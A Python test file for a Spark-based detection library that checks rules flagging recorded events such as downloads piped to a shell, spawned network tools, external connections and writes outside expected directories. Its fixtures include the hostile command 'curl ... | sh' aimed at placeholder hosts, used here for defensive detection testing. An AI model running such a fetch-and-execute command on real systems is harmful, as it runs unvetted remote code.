"""Observations find the findings that name them in another form."""

from spoor.operators import rules
from test_recordings import END, START, analysed, drop, line, target

LONG = "curl https://h.example/" + "x" * 220 + " | sh"


def attached(spark, folder):
    events = analysed(spark, folder)
    return {r.subject: r.rule_id for r in rules.signal_findings(events, rules.findings(events)).collect()}


def test_other_forms_of_subjects(spark, tmp_path):
    spawn = lambda *argv, bin="/bin/sh": line("proc_spawn", bin=bin, argv=list(argv), argv_truncated=False)
    drop(tmp_path, "r", [START, spawn("sh", "-c", "curl h | sh"), spawn("sh", "-c", LONG), spawn("/opt/curl", "h", bin="/usr/bin/curl"), spawn("ls", bin="/bin/ls"), line("net_connect", ip="203.0.113.9"), line("net_connect", ip="203.0.113.8", port=8443), line("fs_write", target=target("/etc/a b"), kind="open"), END])
    assert attached(spark, tmp_path) == {
        "sh -c curl h | sh": "download_piped_to_shell",
        f"sh -c {LONG}": "download_piped_to_shell",
        "/opt/curl h": "spawned_network_tool",
        "ls": None,
        "203.0.113.9": "network_connect_external",
        "203.0.113.8:8443": "network_connect_unusual_port",
        "/etc/a b": "write_outside_expected_dirs",
    }


def test_like_the_reference(spark):
    """The reference's loop over the findings of a recording, in order of their subjects."""
    keys = {"a…": ("r1", 1), "ab…": ("r2", 0), "tool": ("r3", 2), "/x/tool": ("r4", 2), "…": ("r5", 3), "z": ("r6", 1)}
    subjects = ["abc", "a", "b", "/x/tool -v", "/x/tool", "  z\u2003q", "", "é…", "/y/z", "ab…"]

    def brute(subject, keys):
        if subject in keys:
            return keys[subject][0]
        word = next(iter(subject.split()), None)
        return next((r for k, (r, _) in sorted(keys.items()) if k.endswith("…") and subject.startswith(k[:-1]) or word is not None and word.split("/")[-1] == k), None)

    for left in ([], ["…"], ["…", "a…"]):
        kept = {k: v for k, v in keys.items() if k not in left}
        found = spark.createDataFrame([("r", k, r, s, 1) for k, (r, s) in kept.items()], "recording_id string, subject string, rule_id string, sev_rank int, occurrences long")
        rows = [("r", n, 0, "fs_write", s, None, None, None, None, None, True, "kernel") for n, s in enumerate(subjects)]
        events = spark.createDataFrame(rows, "recording_id string, seq long, ts_ns long, op string, path string, ip string, port int, qname string, bin string, argv array<string>, ok boolean, origin string")
        got = {r.subject: r.rule_id for r in rules.signal_findings(events, found).collect()}
        assert got == {s: brute(s, kept) for s in subjects}
